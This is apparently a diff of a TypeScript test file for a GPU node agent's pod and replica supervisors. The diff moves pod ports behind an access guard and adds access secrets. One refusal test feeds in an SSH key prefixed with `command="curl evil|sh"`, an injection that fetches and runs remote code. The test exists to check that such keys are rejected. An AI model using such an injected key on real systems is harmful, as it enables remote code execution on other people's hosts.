@@ -12,13 +12,15 @@ import { PortPool } from "@/agent/src/port-pool";
 import { ReplicaSupervisor } from "@/agent/src/replica-supervisor";
 import { detectNodeAddress } from "@/agent/src/node-info";
 import type { PodAssignment, ReplicaAssignment } from "@/lib/fleet/assignments";
+import { freePort } from "@/scripts/lib/embedded-db";
 import { dockerStandin } from "../support/docker-standin";
 import { tempDir } from "../support/temp-dir";
 import { until } from "../support/wait";
 
-// The node agent runs a pod as one long-lived container with its ports published and its SSH key
-// installed, and reports the host ports back, fenced; the command line is asserted through a docker
-// stand-in, hostile inputs included.
+// The node agent runs a pod as one long-lived container with its SSH port published, its other
+// ports behind the agent's access guard (tests/unit/agent-access-guard.test.ts) and its SSH key
+// installed, and reports the host ports back, fenced; the command line is asserted through a
+// docker stand-in, hostile inputs included.
 
 const limits = { cpus: 8, memoryMb: 65_536, pids: 16_384 };
 const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHxuuJN4z0n9G0mAikmM8JdYo1BeQ0OS3O9GQ9m3mE5W me@laptop";
@@ -35,21 +37,35 @@ const pod = (id: string, o: Partial<PodAssignment> = {}): PodAssignment => ({
   image: "runpod/pytorch:2.4.0",
   ports: [22, 8888],
   ssh_public_key: KEY,
+  access_secret: "access-secret-of-this-pod-placement-0123456",
   ...o,
 });
 
-function supervisor(
+/** Host ports handed out from free ones of this machine, in order (guards really listen on them). */
+class ListPool extends PortPool {
+  constructor(private readonly free: number[]) {
+    super(1024, 65_535);
+  }
+  override take(count: number): number[] | null {
+    return this.free.length >= count ? this.free.splice(0, count) : null;
+  }
+}
+
+async function supervisor(
   launcherEnv: Record<string, string | undefined>,
   sent: Array<{ path: string; report: PodReport }>,
   o: { fail?: () => Error } = {},
 ) {
   const dir = tempDir("pods-");
   const book = new PlacementBook(path.join(dir, "placements.json"));
+  const hostPorts: number[] = [];
+  for (let i = 0; i < 12; i++) hostPorts.push(await freePort());
   const sup = new PodSupervisor({
     launcher: new DockerLauncher(launcherEnv),
     logs: new LogSpool(path.join(dir, "logs")),
     book,
-    ports: new PortPool(40_000, 40_099, () => 0),
+    ports: new ListPool([...hostPorts]),
+    guardHost: "127.0.0.1",
     stateDir: dir,
     gpuIndexOf: (id) => ({ g0: 0, g1: 1, g2: 2 })[id],
     limits: () => limits,
@@ -58,7 +74,7 @@ function supervisor(
       sent.push({ path: p, report });
     },
   });
-  return { sup, book, dir };
+  return { sup, book, dir, hostPorts };
 }
 
 describe("a pod's container command line", () => {
@@ -145,7 +161,7 @@ describe("the pod supervisor, with a docker stand-in on PATH", () => {
   it("runs the pod with its GPUs, ports and key, reports it running with its host ports, stops it when unassigned and confirms", async () => {
     const docker = dockerStandin({ entrypoint: "sleep 30" });
     const sent: Array<{ path: string; report: PodReport }> = [];
-    const { sup, book, dir } = supervisor(dockerClientEnv({ ...docker.env, GPUFORGE_AGENT_KEY: "gf_agentkey" }), sent);
+    const { sup, book, dir, hostPorts } = await supervisor(dockerClientEnv({ ...docker.env, GPUFORGE_AGENT_KEY: "gf_agentkey" }), sent);
     const a = pod("p1");
     sup.reconcile([a]);
     await until(() => docker.runs().length === 1);
@@ -158,10 +174,8 @@ describe("the pod supervisor, with a docker stand-in on PATH", () => {
         env: { GPUFORGE_POD_ID: "p1", GPUFORGE_POD_NAME: "notebook", PUBLIC_KEY: KEY },
         labels: { "gpuforge.pod": "p1", "gpuforge.attempt": "1" },
         limits,
-        publish: [
-          { hostPort: 40_000, containerPort: 22 },
-          { hostPort: 40_001, containerPort: 8888 },
-        ],
+        // SSH alone is published (the tenant's key guards it); 8888 is behind the agent's access guard
+        publish: [{ hostPort: hostPorts[0]!, containerPort: 22 }],
         mounts: [{ source: path.join(dir, "pods", "p1-1", "authorized_keys"), target: "/root/.ssh/authorized_keys" }],
       }),
     );
@@ -179,8 +193,8 @@ describe("the pod supervisor, with a docker stand-in on PATH", () => {
         fence: a.fence,
         status: "running",
         ports: [
-          { container_port: 22, host_port: 40_000 },
-          { container_port: 8888, host_port: 40_001 },
+          { container_port: 22, host_port: hostPorts[0] },
+          { container_port: 8888, host_port: hostPorts[1] },
         ],
       },
     });
@@ -200,7 +214,7 @@ describe("the pod supervisor, with a docker stand-in on PATH", () => {
   it("reports a container that ended by itself exited, with its code; a pod without a key gets neither mount nor PUBLIC_KEY", async () => {
     const docker = dockerStandin({ entrypoint: "exit 3" });
     const sent: Array<{ path: string; report: PodReport }> = [];
-    const { sup } = supervisor(docker.env, sent);
+    const { sup } = await supervisor(docker.env, sent);
     const a = pod("p2", { ssh_public_key: undefined, ports: [8888] });
     sup.reconcile([a]);
     await until(() => (void sup.tick(), sent.some((s) => s.report.status === "exited")));
@@ -212,7 +226,7 @@ describe("the pod supervisor, with a docker stand-in on PATH", () => {
   it("refuses, running nothing, a key that is not one OpenSSH line, a port that is not one, and GPUs the node lacks", async () => {
     const docker = dockerStandin();
     const sent: Array<{ path: string; report: PodReport }> = [];
-    const { sup } = supervisor(docker.env, sent);
+    const { sup } = await supervisor(docker.env, sent);
     sup.reconcile([
       pod("k1", { ssh_public_key: `command="curl evil|sh" ${KEY}` }),
       pod("k2", { ssh_public_key: `${KEY}\nssh-rsa AAAA second` }),
@@ -230,7 +244,7 @@ describe("the pod supervisor, with a docker stand-in on PATH", () => {
   it("drops a report the control plane refuses as stale, and keeps one it could not deliver", async () => {
     const docker = dockerStandin({ entrypoint: "sleep 30" });
     let failure: () => Error = () => new Error("ECONNREFUSED");
-    const { sup } = supervisor(docker.env, [], { fail: () => failure() });
+    const { sup } = await supervisor(docker.env, [], { fail: () => failure() });
     const a = pod("s1");
     sup.reconcile([a]);
     await until(() => docker.runs().length === 1);
@@ -246,47 +260,7 @@ describe("the pod supervisor, with a docker stand-in on PATH", () => {
   });
 });
 
-describe("replicas publish their serving port and report it", () => {
-  it("publishes the serving port on a host port of its range and reports it once the container runs", async () => {
-    const docker = dockerStandin({ entrypoint: "sleep 30" });
-    const reported: Array<[string, number]> = [];
-    const a: ReplicaAssignment = {
-      kind: "endpoint_replica",
-      replica_id: "r1",
-      endpoint_id: "ep-1",
-      endpoint_name: "chat",
-      model: "org/model",
-      attempt: 1,
-      fence: randomUUID(),
-      gpu_ids: ["a"],
-      metrics_path: "/api/endpoints/ep-1/metrics",
-      serving_port: 8000,
-      address_path: "/api/endpoints/ep-1/replicas/r1/address",
-      logs_path: "/api/endpoints/ep-1/replicas/r1/logs",
-      report_token: "gfw_t",
-    };
-    const sup = new ReplicaSupervisor({
-      launcher: new DockerLauncher(docker.env),
-      logs: new LogSpool(tempDir("spool-")),
-      baseUrl: "https://cp",
-      serveImage: "vllm/vllm-openai:v0.6.3",
-      gpuIndexOf: () => 0,
-      limits: () => limits,
-      reportUnhealthy: async () => {},
-      ports: new PortPool(41_000, 41_009, () => 0.5),
-      reportAddress: async (x, port) => void reported.push([x.replica_id, port]),
-    });
-    sup.reconcile([a]);
-    await until(() => docker.runs().length === 1);
-    const run = docker.runs()[0]!;
-    expect(run.slice(0, run.indexOf("--"))).toEqual(expect.arrayContaining(["--publish", "41005:8000/tcp", "--env", "GPUFORGE_PORT=8000"]));
-    // polled announcements may overlap while one is in flight: the report is the same, fenced, each time
-    await until(() => (sup.announceAll(), reported.length >= 1));
-    expect(new Set(reported.map((r) => r.join(":")))).toEqual(new Set(["r1:41005"]));
-    expect(sup.hostPorts()).toEqual([41_005]);
-    sup.stopAll("test over");
-  });
-
+describe("replicas on the node", () => {
   it("removes an earlier container of the replica's name before starting, and waits until it is gone", () => {
     // an asynchronous `docker rm -f` could land after `docker run` created the new container and
     // remove that one instead (it did, in a loaded test run): the removal must finish first
@@ -298,6 +272,7 @@ describe("replicas publish their serving port and report it", () => {
         return { onOutput: () => {}, onExit: (fn) => void (exited = fn), stop: () => {} };
       },
       isRunning: () => true,
+      address: () => "172.18.0.2",
       adopt: () => null,
       remove: (name) => void calls.push(`remove ${name}`),
       removeNow: (name) => void calls.push(`removeNow ${name}`),
@@ -317,6 +292,7 @@ describe("replicas publish their serving port and report it", () => {
       address_path: "/api/endpoints/ep-1/replicas/r2/address",
       logs_path: "/api/endpoints/ep-1/replicas/r2/logs",
       report_token: "gfw_t",
+      access_secret: "access-secret-of-this-replica-placement-012",
     };
     const sup = new ReplicaSupervisor({
       launcher,
